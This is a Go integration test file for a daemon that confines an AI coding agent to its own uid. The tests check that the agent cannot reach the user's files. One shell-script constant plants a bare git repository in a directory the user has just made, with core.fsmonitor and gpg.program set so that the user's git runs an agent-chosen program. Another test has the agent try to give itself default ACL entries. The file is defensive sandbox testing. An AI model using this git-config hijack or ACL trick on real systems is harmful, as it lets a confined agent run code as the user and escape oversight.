package integration

import (
	"encoding/binary"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ohd-dev/ohd/internal/testenv"
	"github.com/ohd-dev/ohd/pkg/gitboundary"
	"github.com/ohd-dev/ohd/pkg/store"
	"golang.org/x/sys/unix"
)

// The mid-conversation window (issue 26): a directory the user makes in
// the tree while the conversation runs is the user's, and git reads a
// directory the user owns as an implicit bare repository. The tree's
// default ACLs give the agent nothing of what the user makes, and ohd's
// watcher lends and shares it as it comes: the agent can never fill a
// directory the user owns.

// midTree makes a tree of uid 1000 for mode ("inplace", "worktree",
// "plain") with docs/guide.md, creates a conversation on it with d and
// returns the conversation and the tree the agent works in.
func midTree(t *testing.T, d *daemon, mode string) (store.Conversation, string) {
	t.Helper()
	var tree string
	args := []string{"create"}
	switch mode {
	case "inplace", "worktree":
		repo := testenv.NewRepo(t, testenv.RepoOptions{})
		testenv.WriteFile(t, filepath.Join(repo, "docs", "guide.md"), "guide\n")
		testenv.Git(t, repo, "add", "docs")
		testenv.Git(t, repo, "commit", "-q", "-m", "docs")
		testenv.ChownR(t, repo, attackOwner, attackOwner)
		args = append(args, "--repo", repo)
		if mode == "worktree" {
			args = append(args, "--worktree")
		}
		tree = repo
	case "plain":
		tree = filepath.Join(testenv.TempDir(t), "folder")
		testenv.WriteFile(t, filepath.Join(tree, "docs", "guide.md"), "guide\n")
		testenv.ChownR(t, tree, attackOwner, attackOwner)
		args = append(args, "--repo", tree)
	}
	var c store.Conversation
	d.ohctlJSON(&c, args...)
	if mode == "worktree" {
		tree = c.Worktree
	}
	if c.AgentUID != agentUID || tree == "" || (mode == "inplace") != c.InPlace {
		t.Fatalf("create %s: want agent %d, got %+v", mode, agentUID, c)
	}
	return c, tree
}

// lendLateDaemon is a daemon on b of the failpoint build with
// legacy/lend-late: no watcher, no periodic lending (the control).
func lendLateDaemon(t *testing.T, b backend) *daemon {
	t.Helper()
	return b.start(t, daemonOptions{Failpoints: true, Env: []string{"OHD_FAILPOINTS=legacy/lend-late"}})
}

// inotifyPlant is the agent's attack: it waits (a tight loop, up to 60s)
// for $D to appear, then at once, again and again for a few seconds until
// one succeeds, fills it as an implicit bare repository whose `git log`
// runs $EVIL (log.showSignature and gpg.program on a signed commit) and
// whose config names $EVIL as core.fsmonitor too.
const inotifyPlant = `end=$(( $(date +%s) + 60 ))
echo > "$LOOPING"
n=0
while [ ! -d "$D" ]; do
	n=$((n+1))
	if [ $((n % 20000)) -eq 0 ] && [ $(date +%s) -gt $end ]; then echo "no $D"; exit 3; fi
done
plant() {
	cd "$D" && git -c init.defaultBranch=main init -q --bare . &&
	git --git-dir=. config log.showSignature true && git --git-dir=. config gpg.program "$EVIL" &&
	git --git-dir=. config core.fsmonitor "$EVIL" &&
	t=$(git --git-dir=. mktree </dev/null) &&
	c=$(printf 'tree %s\nauthor a <a@x> 1 +0000\ncommitter a <a@x> 1 +0000\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n AAAA\n -----END PGP SIGNATURE-----\n\nsigned\n' $t | git --git-dir=. hash-object -t commit -w --stdin) &&
	git --git-dir=. update-ref refs/heads/main $c
}
tries=0
while [ $tries -lt 300 ]; do
	tries=$((tries+1))
	if (plant) >/dev/null 2>&1; then echo "planted at try $tries"; exit 0; fi
done
echo "refused $tries times"
`

// midAttack runs the attack on tree in c: the agent's loop starts, the
// user makes docs/fresh, the agent plants at once; the user's git log and
// git status in docs/fresh then run. It returns what the agent's loop
// said and whether the marker program ran.
func midAttack(t *testing.T, b backend, d *daemon, c store.Conversation, tree string, beforeMkdir func()) (plant string, ran bool) {
	t.Helper()
	markers := mustTempDir(t, "ohd-marker-")
	if err := os.Chmod(markers, 0o777); err != nil {
		t.Fatal(err)
	}
	evilDir := mustTempDir(t, "ohd-evil-")
	if err := os.Chmod(evilDir, 0o755); err != nil {
		t.Fatal(err)
	}
	evil := filepath.Join(evilDir, "evil.sh")
	testenv.WriteFile(t, evil, "#!/bin/sh\ntouch "+markers+"/ran\ncat >/dev/null\nexit 0\n")
	if err := os.Chmod(evil, 0o755); err != nil {
		t.Fatal(err)
	}
	fresh := filepath.Join(tree, "docs", "fresh")
	looping := "/tmp/ohd-loop-" + store.NewID()[:8]
	type result struct {
		code int
		out  string
	}
	done := make(chan result, 1)
	go func() {
		code, out := d.execIn(c.ID, "sh", "-c", "D="+fresh+" EVIL="+evil+" LOOPING="+looping+"; "+inotifyPlant)
		done <- result{code, out}
	}()
	// The agent's loop is running once its mark is in the container's
	// /tmp (looked at behind ohd's back).
	waitFor(t, 60*time.Second, "the agent's loop to run", func() bool {
		_, err := b.rawExec(t, c.ContainerID, "sh", "-c", "test -e "+looping) // no test(1) in the image: sh's
		return err == nil
	})
	if beforeMkdir != nil {
		beforeMkdir()
	}
	if out, err := asOwner(t, tree, "umask 022; mkdir docs/fresh && echo mine > docs/fresh/notes.txt"); err != nil {
		t.Fatalf("the user's mkdir: %v\n%s", err, out)
	}
	var r result
	select {
	case r = <-done:
	case <-time.After(3 * time.Minute):
		t.Fatal("the agent's loop did not end")
	}
	if r.code != 0 {
		t.Fatalf("the agent's loop: exit %d: %s", r.code, r.out)
	}
	for _, args := range [][]string{{"log", "-1"}, {"status"}} {
		out, _ := userGit(t, fresh, args...)
		t.Logf("the user's git %s in docs/fresh: %s", args[0], tail(out, 2))
	}
	ents, _ := os.ReadDir(markers)
	return strings.TrimSpace(r.out), len(ents) > 0
}

// TestBackendMidConversationDirectoryCannotBeFilled: during a conversation (in
// place, worktree, plain folder) the user makes docs/fresh while an agent
// process waits for it in a tight loop and tries at once, again and
// again, to fill it as an implicit bare repository (HEAD, objects/,
// refs/, a config with core.fsmonitor, log.showSignature and gpg.program
// naming a marker program); the user's git log and git status there, as
// uid 1000 with git's default config, run nothing. The control, with the
// old arrangement (the parent's default ACL giving the agent rwx, put back
// by the test; no lending while it runs), shows the attack works.
func TestBackendMidConversationDirectoryCannotBeFilled(t *testing.T) {
	testenv.RequireRoot(t)
	eachBackend(t, func(t *testing.T, b backend) {
		ids := gitboundary.IDs{Owner: attackOwner, OwnerGID: attackOwner, Agent: agentUID, AgentGID: agentUID}
		t.Run("control", func(t *testing.T) {
			d := lendLateDaemon(t, b)
			c, tree := midTree(t, d, "inplace")
			plant, ran := midAttack(t, b, d, c, tree, func() {
				// The old arrangement: the parent's default ACL gives the
				// agent rwx.
				if err := gitboundary.ShareDir(filepath.Join(tree, "docs"), ids); err != nil {
					t.Fatal(err)
				}
			})
			if !ran {
				t.Fatalf("control: the agent's bare repository in the user's new directory did not run under the user's git (agent: %s): the attack is not being made", plant)
			}
			if !strings.HasPrefix(plant, "planted at try 1") {
				t.Errorf("control: the agent's plant = %q, want it at the first try", plant)
			}
		})
		d := b.daemon(t)
		for _, mode := range []string{"inplace", "worktree", "plain"} {
			t.Run(mode, func(t *testing.T) {
				c, tree := midTree(t, d, mode)
				plant, ran := midAttack(t, b, d, c, tree, nil)
				t.Logf("the agent's loop: %s", plant)
				if ran {
					t.Fatalf("the user's git in their new directory ran the agent's program (agent: %s)", plant)
				}
				fresh := filepath.Join(tree, "docs", "fresh")
				if st, err := os.Lstat(fresh); err != nil || st.Sys().(*syscall.Stat_t).Uid != agentUID {
					t.Errorf("docs/fresh during the conversation: %v, want lent to the agent", err)
				}
				d.ohctl("rm", c.ID)
				if mode == "worktree" {
					return // the worktree goes with the conversation
				}
				assertOwnedBy(t, tree, attackOwner)
				if b, err := os.ReadFile(filepath.Join(fresh, "notes.txt")); err != nil || string(b) != "mine\n" {
					t.Errorf("the user's docs/fresh/notes.txt after ohctl rm = %q, %v", b, err)
				}
				for _, part := range []string{"HEAD", "objects", "refs", "config"} {
					if _, err := os.Lstat(filepath.Join(fresh, part)); err == nil {
						t.Errorf("the agent's docs/fresh/%s is still there after ohctl rm", part)
					}
				}
			})
		}
	})
}

// TestBackendMidConversationUserFilesSharedWithAgent: what the user makes during
// a conversation (a directory with a file, a file an editor saves by
// rename) becomes the agent's to write within a short wait, in every
// mode; after ohctl rm everything in the tree is the user's again.
func TestBackendMidConversationUserFilesSharedWithAgent(t *testing.T) {
	eachBackend(t, func(t *testing.T, b backend) {
		testenv.RequireRoot(t)
		d := b.daemon(t)
		for _, mode := range []string{"inplace", "worktree", "plain"} {
			t.Run(mode, func(t *testing.T) {
				c, tree := midTree(t, d, mode)
				if out, err := asOwner(t, tree, "umask 022; mkdir -p docs/new/deep && echo u > docs/new/deep/f && echo saved > docs/.guide.swp && mv docs/.guide.swp docs/guide.md"); err != nil {
					t.Fatalf("the user's edits: %v\n%s", err, out)
				}
				write := "cd " + tree + " && echo a >> docs/new/deep/f && echo a >> docs/guide.md && echo a > docs/new/deep/g"
				waitFor(t, 60*time.Second, "the agent may write what the user just made", func() bool {
					code, _ := d.execIn(c.ID, "sh", "-c", write)
					return code == 0
				})
				if out, err := asOwner(t, tree, "echo u >> docs/new/deep/g && rm docs/new/deep/g"); err != nil {
					t.Errorf("the user cannot edit what the agent made: %v\n%s", err, out)
				}
				d.ohctl("rm", c.ID)
				if mode != "worktree" {
					assertOwnedBy(t, tree, attackOwner)
				}
			})
		}
	})
}

// hasAgentDefault reports whether dir's default ACL has a named entry for
// the agent's uid (the kernel's encoding: a version, then entries of tag
// 2 = a named user, perm and id).
func hasAgentDefault(t *testing.T, dir string) bool {
	t.Helper()
	b := make([]byte, 1024)
	n, err := unix.Lgetxattr(dir, "system.posix_acl_default", b)
	if err != nil {
		return false
	}
	for p := b[4:n]; len(p) >= 8; p = p[8:] {
		if binary.LittleEndian.Uint16(p) == 2 && binary.LittleEndian.Uint32(p[4:]) == agentUID {
			return true
		}
	}
	return false
}

// TestBackendAgentCannotGiveItselfADefaultACL: every directory the agent writes
// in is its own (lent, or made by it), and an owner may set a directory's
// default ACL: an agent that gave itself an entry there would get write
// access to the next directory the user makes in it, which the user owns
// (the control of TestMidConversationDirectoryCannotBeFilled is that
// attack). ohd runs the agent server under a seccomp filter
// (gitboundary.LimitAgent): the agent's own command, run by its server,
// is refused, and docs keeps a default ACL with no entry of the agent's.
// ohctl exec's commands are limited the same. The control: the same
// command in the container outside every process ohd starts (docker
// exec; on Kubernetes the API server's exec) succeeds.
func TestBackendAgentCannotGiveItselfADefaultACL(t *testing.T) {
	eachBackend(t, func(t *testing.T, b backend) {
		testenv.RequireRoot(t)
		d := b.daemon(t)
		repo := testenv.NewRepo(t, testenv.RepoOptions{})
		testenv.WriteFile(t, filepath.Join(repo, "docs", "guide.md"), "guide\n")
		testenv.Git(t, repo, "add", "docs")
		testenv.Git(t, repo, "commit", "-q", "-m", "docs")
		tools := filepath.Join(repo, ".agent", "tools")
		installAttackTool(t, tools, attackOwner, attackOwner, "defacl")
		testenv.ChownR(t, repo, attackOwner, attackOwner)
		var c store.Conversation
		d.ohctlJSON(&c, "create", "--repo", repo)
		docs := filepath.Join(repo, "docs")
		if hasAgentDefault(t, docs) {
			t.Fatal("docs has the agent in its default ACL right after the create")
		}
		cmd := filepath.Join(tools, "defacl") + " " + strconv.Itoa(agentUID) + " " + docs + "; echo exit=$?"
		r := d.call("POST", "/api/bash/execute_bash_command?cid="+c.ID, map[string]any{"command": cmd, "cwd": "/"})
		var out struct {
			Stdout string `json:"stdout"`
			Stderr string `json:"stderr"`
		}
		r.json(t, &out)
		if r.Status != http.StatusOK || !strings.Contains(out.Stdout, "exit=1") || !strings.Contains(out.Stdout+out.Stderr, "operation not supported") {
			t.Errorf("the agent's defacl on docs through its server = %d %q %q; want it refused (operation not supported)", r.Status, out.Stdout, out.Stderr)
		}
		if hasAgentDefault(t, docs) {
			t.Fatal("the agent gave itself an entry in docs' default ACL")
		}
		// ohctl exec (as the container's user, the agent) is limited too: an
		// agent that attached to such a process could make it set one.
		if code, out := d.execIn(c.ID, filepath.Join(tools, "defacl"), strconv.Itoa(agentUID), docs); code == 0 || !strings.Contains(out, "operation not supported") {
			t.Errorf("defacl on docs through ohctl exec = exit %d %q; want it refused (operation not supported)", code, out)
		}
		if hasAgentDefault(t, docs) {
			t.Fatal("ohctl exec gave the agent an entry in docs' default ACL")
		}
		// The control: outside every process ohd starts (docker exec; the
		// API server's exec), as the container's user, the agent, the
		// same call works (the directory is the agent's; only the filter
		// holds it).
		ctl, err := b.rawExec(t, c.ContainerID, filepath.Join(tools, "defacl"), strconv.Itoa(agentUID), docs)
		if err != nil || !hasAgentDefault(t, docs) {
			t.Fatalf("control: defacl behind ohd's back on docs = %v %s (agent in docs' default ACL: %v): the attack is not being made", err, ctl, hasAgentDefault(t, docs))
		}
		d.ohctl("rm", c.ID)
		assertOwnedBy(t, repo, attackOwner)
	})
}
